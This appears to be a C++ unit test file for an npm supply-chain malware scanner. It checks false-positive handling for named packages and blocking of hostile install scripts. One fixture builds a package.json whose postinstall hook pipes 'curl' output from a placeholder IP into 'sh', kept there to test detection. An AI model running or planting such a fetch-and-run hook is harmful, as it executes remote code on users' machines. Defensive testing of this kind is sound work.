// Honest packages that public feeds called malware at some time (the advisory that had it is beside
// each name), and the opposite trap: names that many lists allow for ever, some of which were
// compromised later.

#include <gtest/gtest.h>

#include <algorithm>

#include "detect/evaluate.h"
#include "facts/extract.h"
#include "intel/built_in_pack.h"
#include "intel/match.h"
#include "intel/pack_writer.h"
#include "policy/judge.h"
#include "policy/read_policy.h"

namespace {

using intel::Advisory;
using intel::PackInput;

struct Accused {
  const char* name;
  const char* version;  ///< the accused one, where the report named one
  bool is_popular;      ///< among the 5,000 names that the program knows by rank
};

class WronglyAccused : public testing::TestWithParam<Accused> {
 protected:
  WronglyAccused() {
    inventory_.lockfile = "package-lock.json";
    inventory_.packages.push_back({.name = PackageName::Parse("app"), .origin = Origin::kRoot});
    inventory_.packages.push_back({.name = PackageName::Parse(GetParam().name),
                                   .folder_name = GetParam().name,
                                   .version = GetParam().version,
                                   .path = "node_modules/x",
                                   .origin = Origin::kRegistry});
    inventory_.dependencies.push_back({.to = PackageIndex{1}, .name = GetParam().name});
  }

  /// A record that accuses every version, as feeds write it when in doubt.
  [[nodiscard]] static Advisory Record(std::string source) {
    return {.id = "MAL-2026-1",
            .malware = true,
            .sources = {std::move(source)},
            .affected = {{.ecosystem = "npm",
                          .name = GetParam().name,
                          .ranges = {{.type = intel::RangeType::kSemver,
                                      .events = {{intel::EventKind::kIntroduced, "0"}}}}}}};
  }

  [[nodiscard]] intel::Answer Ask(PackInput input) {
    return Ask(MappedFile(*intel::MakePack(std::move(input), std::nullopt)));
  }
  [[nodiscard]] intel::Answer Ask(MappedFile bytes) {
    pack_.emplace(*intel::Pack::Open(std::move(bytes),
                                     {.without_signature = intel::Trust::Unsigned::kAllowed}));
    intel::Intelligence intelligence;
    intelligence.packs.push_back(&*pack_);
    return intel::MatchInventory(intelligence, inventory_);
  }

  Inventory inventory_;
  std::optional<intel::Pack> pack_;
};

TEST_P(WronglyAccused, IsInNoRecordOfThisProgram) {
  for (const intel::Match& match : Ask(MappedFile(intel::BuiltInPack())).matches)
    EXPECT_FALSE(match.malware()) << match.claims.front().record.advisory.id;
}

TEST_P(WronglyAccused, IsLeftAloneOnceTheRecordIsWithdrawn) {
  PackInput input;
  input.advisories = {Record("ossf")};
  input.advisories.front().withdrawn = 1'790'000'000'000;
  const intel::Answer answer = Ask(std::move(input));
  EXPECT_TRUE(answer.matches.empty());
  ASSERT_EQ(answer.unmatched.size(), 1U);
  EXPECT_EQ(NameOf(answer.unmatched.front().why), "withdrawn");
}

TEST_P(WronglyAccused, IsNotBlockedOnOneWordWhenEverybodyUsesIt) {
  if (!GetParam().is_popular) return;
  PackInput input;
  input.popular = {{GetParam().name, 500}};
  input.advisories = {Record("ossf")};
  const intel::Answer answer = Ask(std::move(input));
  ASSERT_EQ(answer.matches.size(), 1U);
  EXPECT_FALSE(answer.matches.front().Enough());
  EXPECT_NE(intel::PopularNames().find("\n" + std::string(GetParam().name) + "\n"),
            std::string_view::npos)
      << "the program does not know how popular it is";
}

INSTANTIATE_TEST_SUITE_P(Named, WronglyAccused,
                         testing::Values(Accused{"supabase", "2.58.5", false},    // #7896
                                         Accused{"puppeteer", "25.0.1", true},    // #7858, #7684
                                         Accused{"astro", "7.1.0", false},        // #8859
                                         Accused{"stylus", "0.64.0", false},      // #5846
                                         Accused{"@nx/key", "1.0.0", false},      // nrwl/nx#35800
                                         Accused{"base-ui-cli", "1.0.0", false},  // ossf #1442
                                         Accused{"prjct-cli", "1.0.0", false},    // ossf #1324
                                         Accused{"@aicommander/agent", "1.0.0", false},  // #1471
                                         Accused{"patchwork-os", "1.0.0", false},        // #1449
                                         Accused{"little-coder", "1.0.0", false},
                                         Accused{"@znan/wabot", "1.0.0", false}));

/// Names on package managers' lists of trusted install scripts; the first three were compromised.
class AllowedByName : public testing::TestWithParam<const char*> {};

TEST_P(AllowedByName, IsBlockedForWhatItDoesAllTheSame) {
  const std::string manifest =
      "{\"name\": \"" + std::string(GetParam()) +
      "\", \"version\": \"1.0.1\", \"scripts\": {\"postinstall\": \"curl -s "
      "http://192.0.2.7/x | sh\"}}";
  Contents contents;
  contents.files.push_back({.path = "package.json", .bytes = AsBytes(manifest)});
  const Facts facts = facts::Extract(contents, {.name = GetParam(), .version = "1.0.1"});
  const auto rules = detect::RuleSet::Load({});
  const Policy policy = policy::BuiltInPolicy();
  Action worst = Action::kAllow;
  for (const Finding& finding : detect::Evaluate(rules.value(), facts, nullptr))
    worst = std::max(
        worst,
        policy::Judge(policy, finding, {.name = GetParam(), .version = "1.0.1"}, 0).verdict.action);
  EXPECT_EQ(NameOf(worst), "block");
}

/// A suppression without a version or a hash would be a name for ever; this one pins both.
TEST_P(AllowedByName, IsAcceptedByVersionAndNoFurther) {
  const policy::PolicyReading reading = policy::ReadPolicy(
      "[[suppress]]\nrule = 'install-script'\npackage = 'pkg:npm/" + std::string(GetParam()) +
          "@1.0.0'\nreason = 'read'\nowner = 'me'\nexpires = 2028-01-01\n",
      "policy");
  const Finding finding{.rule = "install-script", .severity = Severity::kHigh};
  const auto is_accepted = [&](const char* version) {
    return policy::Judge(reading.policy, finding, {.name = GetParam(), .version = version}, 0)
               .suppression != nullptr;
  };
  EXPECT_TRUE(is_accepted("1.0.0"));
  EXPECT_FALSE(is_accepted("1.0.1"));
}

INSTANTIATE_TEST_SUITE_P(Trap, AllowedByName,
                         testing::Values("nx", "mbt", "@injectivelabs/sdk-ts", "opencode-ai"));

}  // namespace
